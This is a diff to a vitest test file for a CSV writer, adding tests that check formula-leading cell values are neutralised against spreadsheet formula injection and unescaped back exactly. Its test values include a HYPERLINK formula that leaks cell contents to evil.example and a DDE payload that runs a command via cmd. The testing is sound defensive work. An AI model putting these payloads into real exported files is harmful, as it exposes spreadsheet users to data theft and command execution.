@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { toCsv, toCsvBytes } from './csv.ts'
+import { csvLine, toCsv, toCsvBytes, unescapeFormula } from './csv.ts'
 
 describe('CSV writer', () => {
   it('ends every record with CRLF, the last one included', () => {
@@ -32,6 +32,29 @@ describe('CSV writer', () => {
     expect(toCsv([['=HYPERLINK("x")', '@SUM(1)', -5, '#affected+f']])).toBe(
       `"'=HYPERLINK(""x"")",'@SUM(1),-5,#affected+f\r\n`,
     )
-    expect(toCsv([['=1+1']], { escapeFormulas: false })).toBe('=1+1\r\n')
+  })
+
+  it.each([
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '@SUM(A1:A2)',
+    '+SUM(A1:A2)',
+    '-2+3',
+    '\t=1+1',
+    '\r=1+1',
+    "'=already quoted",
+    "'plain apostrophe",
+    'ស្រីលក្ខណ៍, "ចាន់"',
+    'plain',
+  ])('neutralises %j so no spreadsheet runs it, and unescapes it back exactly', (value) => {
+    const written = toCsv([[value]])
+    expect(written).not.toMatch(/^"?[=+\-@\t\r]/)
+    const cell = written.startsWith('"') ? written.slice(1, -3).replaceAll('""', '"') : written.slice(0, -2)
+    expect(unescapeFormula(cell)).toBe(value)
+  })
+
+  it('leaves values that only contain a formula character alone', () => {
+    expect(csvLine(['a=b', 'x@y', '1+1'])).toBe('a=b,x@y,1+1\r\n')
+    expect(unescapeFormula("it's")).toBe("it's")
   })
 })
